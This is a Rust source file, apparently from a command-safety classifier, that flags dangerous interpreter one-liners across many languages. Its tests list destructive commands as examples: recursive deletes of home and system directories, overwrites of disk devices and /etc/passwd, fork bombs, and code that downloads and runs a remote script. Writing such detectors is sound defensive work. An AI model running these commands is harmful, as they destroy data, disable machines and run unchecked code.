//! What interpreter code does, whatever the language: python, perl, ruby,
//! node/deno/bun, php, lua, R, julia, elixir, groovy, elisp. Deleting trees
//! and files (literal paths, globs; listings walked are in `walks`),
//! writing raw devices and critical files, forking without end, decoding
//! hidden code and running it; process calls are in `process`. Environment
//! lookups (`ENVIRON["HOME"]`, `os.environ['HOME']`, `process.env.HOME`)
//! read as the shell's `$HOME`, and import aliases (`import shutil as s`)
//! as the names they stand for, so calls and paths built from them are
//! judged too.

use super::walks::{file_deletes, listed_trees, receiver_deletes, recursive_deleters};
use crate::risk::prelude::*;

/// Calls that delete a directory tree, by language.
const TREE_DELETES: &[&str] = &[
    "rmtree",
    "rm_rf",
    "rm_r",
    "remove_tree",
    "remove_dir_all",
    "removedirs",
    "remove_entry_secure",
    "rimraf",
    "rimraf.sync",
    "rimrafSync",
    "deltree",
    "rmSync",
    "rmdirSync",
    "rmdir",
    "fs.rm",
    "promises.rm",
    "RemoveAll",
    "deleteRecursively",
    "deleteDirectory",
    "emptyDirSync",
    "removeSync",
    "delete-directory",
    "delete-tree",
    "dired-delete-file",
];

/// What interpreter code (`python3 -c`, `perl -e`, a here-doc fed to
/// `python3 -`) deletes or hands to a shell.
/// Files the code writes with literal text (`open("/tmp/x.sh","w").write("…")`,
/// `Path("…").write_text("…")`, `fs.writeFileSync("…", "…")`), recorded so
/// that a shell running the file later is judged on that text.
fn record_written_files(code: &str, acc: &mut Acc) {
    let literals = |s: &str| string_literals(s);
    for (opener, writer) in [
        ("open(", ".write("),
        ("Path(", ".write_text("),
        ("writeFileSync(", ""),
        ("File.write(", ""),
        ("file_put_contents(", ""),
    ] {
        for part in code.split(opener).skip(1) {
            let args = literals(part);
            let Some(path) = args.first() else { continue };
            let text = if writer.is_empty() {
                args.get(1).cloned()
            } else {
                part.split_once(writer)
                    .and_then(|(_, rest)| literals(rest).into_iter().next())
            };
            if let Some(text) =
                text.filter(|_| path.starts_with(['/', '.', '~']) || path.ends_with(".sh"))
            {
                let text = text.replace("\\n", "\n");
                acc.written.insert(path.clone(), Written::Text(text));
            }
        }
    }
}

/// Code that downloads code and runs it (`exec(urlopen(…).read())`,
/// `eval(open-uri)`, `new Function(await (await fetch(…)).text())`): what
/// runs cannot be seen, like `curl … | sh`.
fn runs_fetched_code(code: &str, acc: &mut Acc) {
    const FETCH: &[&str] = &[
        "urlopen(",
        "urlretrieve(",
        "requests.get(",
        "httpx.get(",
        "fetch(",
        "open-uri",
        "URI.open(",
        "Net::HTTP",
        "LWP::",
        "HTTP::Tiny",
        "get(\"http",
        "get('http",
        "file_get_contents(\"http",
        "file_get_contents('http",
        "curl_exec(",
        "https.get(",
        "http.get(",
    ];
    const RUN: &[&str] = &[
        "exec(",
        "eval(",
        "eval ",
        "instance_eval",
        "Function(",
        "runInThisContext",
        "os.system(",
        "subprocess.",
        "system(",
        "popen(",
        "loadstring(",
    ];
    if FETCH.iter().any(|f| code.contains(f)) && RUN.iter().any(|r| code.contains(r)) {
        acc.danger("runs code it downloads: what runs cannot be checked");
    }
}

pub(crate) fn code_effects(name: &str, code: &str, depth: usize, acc: &mut Acc) {
    let code = &import_aliases(&env_lookups_as_shell(code));
    shell_calls(code, depth, acc);
    file_deletes(name, code, depth, acc);
    receiver_deletes(code, depth, acc);
    recursive_deleters(code, depth, acc);
    raw_writes(name, code, acc);
    fork_loop(name, code, acc);
    runs_fetched_code(code, acc);
    record_written_files(code, acc);
    let node_like = matches!(name, "node" | "nodejs" | "deno" | "bun");
    for call in calls(code, TREE_DELETES) {
        // node's rm/rmdir delete a tree only with { recursive: true }; elisp's
        // delete-directory only with its RECURSIVE argument.
        let needs_flag = node_like
            && matches!(
                call.name.as_str(),
                "rmSync" | "rmdirSync" | "rmdir" | "fs.rm" | "promises.rm"
            )
            || call.name == "removeSync" && code.contains("Deno");
        if needs_flag && !code.contains("recursive") {
            continue;
        }
        let lisp = matches!(call.name.as_str(), "delete-directory" | "dired-delete-file");
        if lisp && !lisp_recursive(&call.args) {
            acc.caution(format!("{name} code deletes a directory"));
            continue;
        }
        if !node_like && (call.name == "rmdir" || call.name.ends_with(".rm")) {
            continue;
        }
        judge_tree_delete(name, call.args.as_str(), acc);
        listed_trees(code, &call.args, depth, acc);
    }
    // A walk that removes what it visits deletes the tree too; a listing of
    // one directory (`readdirSync(".")`, `glob("*.log")`) is not a walk.
    let recursive_listing = code.contains("**") || code.contains("recursive");
    let walks = ["walk(", "rglob(", "find(", "Find.find"]
        .iter()
        .any(|w| code.contains(w))
        || recursive_listing && (code.contains("glob(") || code.contains("readdirSync"));
    let removes = ["remove(", "unlink(", "unlinkSync(", "rm(", "delete("]
        .iter()
        .any(|w| code.contains(w));
    if walks && removes {
        for call in calls(code, &["walk", "rglob", "glob", "find", "readdirSync"]) {
            judge_tree_delete(name, call.args.as_str(), acc);
        }
    }
    // Argument lists handed to a process: subprocess.run(['rm','-rf','/']).
    for list in string_lists(code) {
        assess_script(&list, depth + 1, acc);
    }
    decoded_and_run(name, code, acc);
}

/// Code that decodes text and runs it (`exec(b64decode(…))`,
/// `os.system(base64.b64decode(…))`, `eval(atob(…))`) runs what cannot be
/// seen: danger, as decoded text piped into a shell is.
fn decoded_and_run(name: &str, code: &str, acc: &mut Acc) {
    const DECODES: &[&str] = &[
        "b64decode",
        "decodebytes",
        "decodestring",
        "atob(",
        "'base64'",
        "\"base64\"",
        "decode_base64",
        "decode64",
        "unpack(\"m",
        "unpack('m",
        "fromhex(",
        "codecs.decode",
        "rot13",
        "unhexlify",
        "decompress(",
        "base64_decode",
        "unpack1(",
        "pack(\"H",
        "pack('H",
    ];
    const RUNS: &[&str] = &[
        "exec(",
        "eval(",
        "system(",
        "popen(",
        "subprocess",
        "execSync",
        "spawn",
        "Function(",
        "`",
        "%x",
        "exec ",
        "eval ",
        "instance_eval",
        "Invoke-Expression",
        "iex",
        "passthru",
        "shell_exec",
        "proc_open",
    ];
    if DECODES.iter().any(|d| code.contains(d)) && RUNS.iter().any(|r| code.contains(r)) {
        acc.danger(format!("{name} decodes hidden code and runs it"));
    }
}

/// `import shutil as s`, `from shutil import rmtree as r`: the code with
/// each alias written as the name it stands for (`s.rmtree(` is
/// `shutil.rmtree(`, `r(` is `rmtree(`), so calls are known by their names.
fn import_aliases(code: &str) -> String {
    // node's `require("rimraf").sync(…)`: the module by its name.
    let mut code = code.to_string();
    for q in ['"', '\''] {
        for m in ["rimraf", "fs-extra", "shelljs"] {
            code = code.replace(&format!("require({q}{m}{q})"), m);
        }
    }
    let code = code.as_str();
    if !code.contains(" as ") || !code.contains("import") {
        return code.to_string();
    }
    let mut pairs: Vec<(String, String)> = Vec::new();
    for stmt in code.split([';', '\n']) {
        let stmt = stmt.trim();
        let list = match stmt.split_once("import ") {
            Some((head, list)) if head.is_empty() || head.starts_with("from ") => list,
            _ => continue,
        };
        for item in list.split(',') {
            if let Some((name, alias)) = item.trim().split_once(" as ") {
                pairs.push((alias.trim().to_string(), name.trim().to_string()));
            }
        }
    }
    let ident = |c: char| c.is_alphanumeric() || c == '_';
    let mut out = code.to_string();
    for (alias, name) in pairs {
        if alias.is_empty() || !alias.chars().all(ident) {
            continue;
        }
        for suffix in ["(", "."] {
            let from = format!("{alias}{suffix}");
            let mut at = 0;
            while let Some(i) = out[at..].find(&from).map(|i| i + at) {
                let boundary = out[..i]
                    .chars()
                    .next_back()
                    .is_none_or(|c| !ident(c) && c != '.');
                if boundary {
                    out.replace_range(i..i + alias.len(), &name);
                    at = i + name.len() + suffix.len();
                } else {
                    at = i + from.len();
                }
            }
        }
    }
    out
}

/// How code names the home directory.
const HOME_IN_CODE: &[&str] = &[
    "expanduser",
    "homedir()",
    "Dir.home",
    "ENV{HOME",
    "ENV['HOME']",
    "ENV[\"HOME\"]",
    "Path.home()",
    "environ['HOME']",
    "environ[\"HOME\"]",
    "getenv('HOME')",
    "getenv(\"HOME\")",
    "env.HOME",
];

pub(crate) fn judge_tree_delete(name: &str, args: &str, acc: &mut Acc) {
    let path = if HOME_IN_CODE.iter().any(|h| args.contains(h)) {
        string_literals(args)
            .into_iter()
            .find(|l| l.starts_with(['~', '/']))
            .unwrap_or_else(|| "~".into())
    } else {
        let literals = string_literals(args);
        let path = literals
            .iter()
            .find(|l| l.starts_with(['/', '~', '$']))
            .or(literals.first())
            .cloned();
        match path {
            Some(p) => p,
            None => {
                acc.caution(format!("{name} code deletes a directory tree"));
                return;
            }
        }
    };
    match classify(&path) {
        Some(c) if c != PathClass::Other => {
            acc.danger(format!("{name} code deletes {} recursively", c.describe()))
        }
        _ => acc.caution(format!("{name} code deletes the directory tree {path}")),
    }
}

/// `(delete-directory "~" t)`: a second argument other than `nil` recurses.
fn lisp_recursive(args: &str) -> bool {
    let rest = args.trim();
    let after_path = match string_literals(rest).first() {
        Some(p) => rest
            .find(p.as_str())
            .map_or("", |i| &rest[(i + p.len() + 1).min(rest.len())..]),
        None => rest.split_once(char::is_whitespace).map_or("", |(_, r)| r),
    };
    let second = after_path.split_whitespace().next().unwrap_or("");
    !second.is_empty() && second != "nil" && second != ")"
}

/// Environment lookups in every language written as the shell's `"$NAME"`:
/// `ENVIRON["HOME"]`, `os.environ['HOME']`, `os.getenv("HOME")`,
/// `process.env.HOME`, `$ENV{HOME}`, `Sys.getenv("HOME")`.
pub(crate) fn env_lookups_as_shell(code: &str) -> String {
    const OPENERS: &[(&str, &str)] = &[
        ("ENVIRON[", "]"),
        ("os.environ[", "]"),
        ("os.environ.get(", ")"),
        ("os.getenv(", ")"),
        ("Sys.getenv(", ")"),
        ("System.getenv(", ")"),
        ("os.Getenv(", ")"),
        ("Deno.env.get(", ")"),
        ("getenv(", ")"),
        ("process.env[", "]"),
        ("$ENV{", "}"),
        ("ENV[", "]"),
        ("ENV.fetch(", ")"),
        ("$_ENV[", "]"),
        ("$_SERVER[", "]"),
    ];
    if !["ENV", "env", "home", "Home", "expand"]
        .iter()
        .any(|k| code.contains(k))
    {
        return code.to_string();
    }
    let mut out = home_lookups_as_shell(code);
    for (open, close) in OPENERS {
        let mut from = 0;
        while let Some(at) = out[from..].find(open).map(|i| i + from) {
            let inner_start = at + open.len();
            let Some(len) = out[inner_start..].find(close) else {
                break;
            };
            let inner = out[inner_start..inner_start + len].trim();
            let name: String = inner
                .trim_matches(|c| c == '"' || c == '\'')
                .split([',', '"', '\''])
                .next()
                .unwrap_or("")
                .to_string();
            if name.is_empty() || !name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_') {
                from = inner_start;
                continue;
            }
            let shell = format!("\"${name}\"");
            out.replace_range(at..inner_start + len + close.len(), &shell);
            from = at + shell.len();
        }
    }
    // `process.env.HOME`, `$env:HOME`.
    for prefix in ["process.env.", "$env:"] {
        while let Some(at) = out.find(prefix) {
            let start = at + prefix.len();
            let n = out[start..]
                .chars()
                .take_while(|c| c.is_ascii_alphanumeric() || *c == '_')
                .count();
            let shell = format!("\"${}\"", &out[start..start + n]);
            out.replace_range(at..start + n, &shell);
        }
    }
    out
}

/// The home directory as code names it, written `"$HOME"` (or the literal
/// path a function expands): in interpolated strings, call chains ending
/// in `.homedir()`, `expanduser(…)`, `Path.home()`.
fn home_lookups_as_shell(code: &str) -> String {
    let mut out = code.to_string();
    // Inside interpolated strings (`"rm -rf #{Dir.home}"`, `` `${os.homedir()}` ``)
    // the lookup is text of the string.
    for (from, to) in [
        ("#{Dir.home}", "$HOME"),
        ("#{ENV['HOME']}", "$HOME"),
        ("#{ENV[\"HOME\"]}", "$HOME"),
        ("${os.homedir()}", "$HOME"),
        ("${process.env.HOME}", "$HOME"),
        ("{os.path.expanduser('~')}", "$HOME"),
        ("{Path.home()}", "$HOME"),
    ] {
        out = out.replace(from, to);
    }
    // `require('os').homedir()`: the whole call chain is the home directory.
    while let Some(at) = out.find(".homedir()") {
        let start = chain_start(&out[..at]);
        out.replace_range(start..at + ".homedir()".len(), "\"$HOME\"");
    }
    // The home directory by function: `os.path.expanduser('~')`, `Path.home()`,
    // `os.homedir()`, `Dir.home`: the literal path, or `$HOME`.
    for f in [
        "os.path.expanduser(",
        "expanduser(",
        "File.expand_path(",
        "path.expand(",
    ] {
        while let Some(at) = out.find(f) {
            let start = at + f.len();
            let Some(len) = out[start..].find(')') else {
                break;
            };
            let lit = string_literals(&out[start..start + len]).into_iter().next();
            let shell = format!("\"{}\"", lit.unwrap_or_else(|| "$HOME".into()));
            out.replace_range(at..start + len + 1, &shell);
        }
    }
    for f in [
        "Path.home()",
        "os.homedir()",
        "homedir()",
        "Dir.home",
        "Deno.env.get(\"HOME\")",
    ] {
        out = out.replace(f, "\"$HOME\"");
    }
    out
}

/// Where the call chain ending at the end of `before` starts:
/// `require('os')` of `x = require('os')`, balanced parentheses skipped.
pub(crate) fn chain_start(before: &str) -> usize {
    let b = before.as_bytes();
    let mut i = b.len();
    let mut depth = 0usize;
    while i > 0 {
        let c = b[i - 1];
        match c {
            b')' => depth += 1,
            b'(' if depth > 0 => depth -= 1,
            _ if depth > 0 => {}
            _ if c.is_ascii_alphanumeric() || c == b'_' || c == b'.' => {}
            _ => break,
        }
        i -= 1;
    }
    i
}

/// Opening a disk device or a critical file for writing: `open("/dev/sda",
/// "wb")`, `File.open('/etc/passwd', 'w')`, `fs.writeFileSync('/dev/nvme0n1', …)`.
fn raw_writes(name: &str, code: &str, acc: &mut Acc) {
    const WRITES: &[&str] = &[
        "\"w",
        "'w",
        "\"r+",
        "'r+",
        "\"a\"",
        "'a'",
        "O_WRONLY",
        "O_RDWR",
        "write",
        "fwrite",
        "file_put_contents",
        "writeFile",
        "truncate",
    ];
    let literals = string_literals(code);
    let Some(target) = literals
        .iter()
        .find(|l| is_device(l) || is_critical_file(l) || is_access_key(l))
    else {
        return;
    };
    // `open('/etc/passwd')` alone only reads; a mode or write call follows
    // the path closely.
    let after: String = code
        .split(target.as_str())
        .nth(1)
        .unwrap_or("")
        .chars()
        .take(48)
        .collect();
    let after = after.as_str();
    let before: String = code
        .split(target.as_str())
        .next()
        .unwrap_or("")
        .chars()
        .rev()
        .take(24)
        .collect::<Vec<_>>()
        .into_iter()
        .rev()
        .collect();
    const WRITE_CALLS: &[&str] = &[
        "writeFile",
        "File.write",
        "IO.write",
        "file_put_contents",
        "write_text",
        "write_bytes",
        "truncate",
        "spit",
    ];
    let writes_it =
        WRITES.iter().any(|w| after.contains(w)) || WRITE_CALLS.iter().any(|w| before.contains(w));
    if !writes_it {
        return;
    }
    if is_device(target) {
        acc.danger(format!("{name} code writes onto the disk device {target}"));
    } else if is_access_key(target) {
        acc.danger(format!("{name} code {}", access_loss("overwrites", target)));
    } else if !after
        .trim_start_matches(['"', '\'', ',', ' '])
        .starts_with(['a', 'r'])
    {
        acc.danger(format!("{name} code overwrites the critical file {target}"));
    } else {
        acc.caution(format!("{name} code changes the critical file {target}"));
    }
}

/// `perl -e 'fork while 1'`, `while True: os.fork()`, `loop { fork }`: a
/// process that forks without end takes the machine down.
fn fork_loop(name: &str, code: &str, acc: &mut Acc) {
    let flat: String = outside_literals(code)
        .chars()
        .filter(|c| !c.is_whitespace())
        .collect();
    let forks = ["fork", "pcntl_fork", "spawn(process.argv", "Popen(sys.argv"]
        .iter()
        .any(|f| flat.contains(f));
    let endless = [
        "while1",
        "while(1)",
        "whileTrue",
        "while(true)",
        "whiletrue",
        "loop{",
        "loopdo",
        "for(;;)",
        "1while",
        "until0",
        "untilfalse",
        "whilenot0",
    ]
    .iter()
    .any(|l| flat.contains(l));
    if forks && endless {
        acc.danger(format!(
            "{name} code forks without end (a fork bomb): the system hangs"
        ));
    }
}

/// The code with the contents of its string literals left out.
pub(crate) fn outside_literals(code: &str) -> String {
    let mut out = String::with_capacity(code.len());
    let mut quote: Option<char> = None;
    let mut escaped = false;
    for c in code.chars() {
        match quote {
            Some(_) if escaped => escaped = false,
            Some(_) if c == '\\' => escaped = true,
            Some(q) if c == q => quote = None,
            Some(_) => {}
            None if c == '"' || c == '\'' => quote = Some(c),
            None => out.push(c),
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use crate::risk::tests::check_examples;
    use crate::risk::RiskLevel::*;

    /// Interpreter code in every language, in line with the written policy.
    #[test]
    fn examples() {
        check_examples(&[
            (
                "python3 -c 'open(\"/tmp/gitgc.sh\",\"w\").write(\"rm -rf /srv/git\\n\")' && sh /tmp/gitgc.sh",
                Danger,
            ),
            (
                "python3 -c 'open(\"/tmp/hi.sh\",\"w\").write(\"echo hi\\n\")' && sh /tmp/hi.sh",
                Safe,
            ),
            (
                "python3 -c \"import urllib.request as u; exec(u.urlopen('https://example.com/p.py').read())\"",
                Danger,
            ),
            (
                "python3 -c \"import urllib.request as u; print(u.urlopen('https://example.com').status)\"",
                Safe,
            ),
            (
                "python3 -c \"import json, urllib.request as u; print(json.load(u.urlopen('https://example.com/a.json')))\"",
                Safe,
            ),
            // Deleting trees, named in each language's own way.
            (
                r#"Rscript -e 'unlink("/srv/www", recursive = TRUE)'"#,
                Danger,
            ),
            (
                r#"R -e 'unlink(Sys.getenv("HOME"), recursive=TRUE)'"#,
                Danger,
            ),
            (
                r#"deno eval 'await Deno.remove("/home", { recursive: true })'"#,
                Danger,
            ),
            (
                r#"bun -e 'require("fs").rmSync(process.env.HOME, {recursive: true})'"#,
                Danger,
            ),
            (
                r#"emacs -Q --batch --eval '(delete-directory "/etc" t)'"#,
                Danger,
            ),
            (
                r#"emacs --batch --eval '(delete-directory "/tmp/x")'"#,
                Caution,
            ),
            (
                r#"ruby -e 'require "fileutils"; FileUtils.rm_rf(ENV["HOME"])'"#,
                Danger,
            ),
            (
                r#"php -r 'array_map("unlink", glob("/var/lib/mysql/*"));'"#,
                Danger,
            ),
            (r#"perl -e 'unlink glob "/boot/*"'"#, Danger),
            (r#"perl -e 'unlink <~/.ssh/id_*>'"#, Danger),
            (
                r#"python3 -c 'import os; [os.remove("/etc/"+f) for f in os.listdir("/etc")]'"#,
                Danger,
            ),
            (
                r#"python3 -c 'import os; os.remove("/etc/shadow")'"#,
                Danger,
            ),
            (r#"lua -e 'os.remove("/etc/passwd")'"#, Danger),
            (
                r#"python3 -c 'import os; os.remove("build/out.o")'"#,
                Caution,
            ),
            (
                r#"node -e 'require("fs").unlinkSync("./tmp/cache.json")'"#,
                Caution,
            ),
            // Raw devices and critical files written.
            (
                r#"python3 -c 'open("/dev/nvme0n1", "wb").write(bytes(4096))'"#,
                Danger,
            ),
            (
                r#"ruby -e 'File.open("/dev/sdb", "w") { |f| f.write("\0" * 512) }'"#,
                Danger,
            ),
            (
                r#"node -e 'require("fs").writeFileSync("/etc/passwd", "")'"#,
                Danger,
            ),
            (r#"python3 -c 'print(open("/etc/passwd").read())'"#, Safe),
            (r#"python3 -c 'open("/dev/null", "w").write("x")'"#, Safe),
            (r#"python3 -c 'open("out.txt", "w").write("hi")'"#, Safe),
            // Shell commands built from pieces and the environment.
            (
                r#"awk 'BEGIN { c = "rm -rf " ENVIRON["HOME"]; system(c) }'"#,
                Danger,
            ),
            (
                r#"python3 -c 'import os; d = os.environ["HOME"]; os.system("rm -rf " + d)'"#,
                Danger,
            ),
            (
                r#"python3 -c 'import os; cmd = "rm -rf /var/lib/" + "mysql"; os.system(cmd)'"#,
                Danger,
            ),
            (r#"perl -e '$c = "mkfs.ext4 /dev/sdb"; system($c)'"#, Danger),
            (
                r#"emacs --batch --eval '(shell-command "rm -rf ~")'"#,
                Danger,
            ),
            (r#"awk 'BEGIN { print ENVIRON["HOME"] }'"#, Safe),
            (
                r#"python3 -c "import os; os.system('rm -rf ' + os.path.expanduser('~'))""#,
                Danger,
            ),
            (
                r#"python3 -c "import os; os.system('rm -rf ' + os.path.expanduser('~/build'))""#,
                Caution,
            ),
            (
                r#"node -e "require('child_process').execSync('rm -rf ' + require('os').homedir())""#,
                Danger,
            ),
            (r#"ruby -e 'system("rm -rf #{Dir.home}")'"#, Danger),
            (r#"python3 -c 'import os; print(os.environ["HOME"])'"#, Safe),
            (r#"awk '{ system("echo " $1) }' names.txt"#, Caution),
            // Fork bombs in any language.
            (r#"perl -e 'fork while 1'"#, Danger),
            (
                r#"python3 -c 'import os
while True: os.fork()'"#,
                Danger,
            ),
            (r#"ruby -e 'loop { fork }'"#, Danger),
            (r#"php -r 'while(1) pcntl_fork();'"#, Danger),
            (
                r#"python3 -c 'import os; pid = os.fork(); print(pid)'"#,
                Safe,
            ),
            (r#"perl -e 'print "fork while 1\n"'"#, Safe),
            // Languages named by version, and their own delete calls.
            (
                r#"python3.12 -c 'import shutil; shutil.rmtree("/var/lib/docker")'"#,
                Danger,
            ),
            (r#"lua5.4 -e 'os.execute("rm -rf ~")'"#, Danger),
            (r#"julia -e 'rm("/srv/x"; recursive=true)'"#, Danger),
            (r#"elixir -e 'File.rm_rf!("/srv")'"#, Danger),
            (r#"bb -e '(babashka.fs/delete-tree "/srv")'"#, Danger),
            (r#"julia -e 'rm("tmp.txt")'"#, Caution),
            (r#"julia -e 'println("rm -rf /")'"#, Safe),
            (
                r#"emacs --batch --eval "(dired-delete-file \"/srv\" 'always)""#,
                Danger,
            ),
            (
                r#"emacs --batch -l /dev/stdin <<< '(delete-directory "/srv" t)'"#,
                Danger,
            ),
            // Import aliases name the call they stand for.
            (
                r#"python3 -c 'from shutil import rmtree as r; r("/home")'"#,
                Danger,
            ),
            (
                r#"python3 -c 'import shutil as s; s.rmtree("/home")'"#,
                Danger,
            ),
            (
                r#"python3 -c 'import shutil as s; print(s.disk_usage("/"))'"#,
                Safe,
            ),
            (r#"node -e 'require("rimraf").sync("/home")'"#, Danger),
            (
                r#"node -e 'require("fs-extra").removeSync("/var/www")'"#,
                Danger,
            ),
            (
                r#"node -e 'console.log(require("fs").existsSync("/home"))'"#,
                Safe,
            ),
        ]);
    }
}
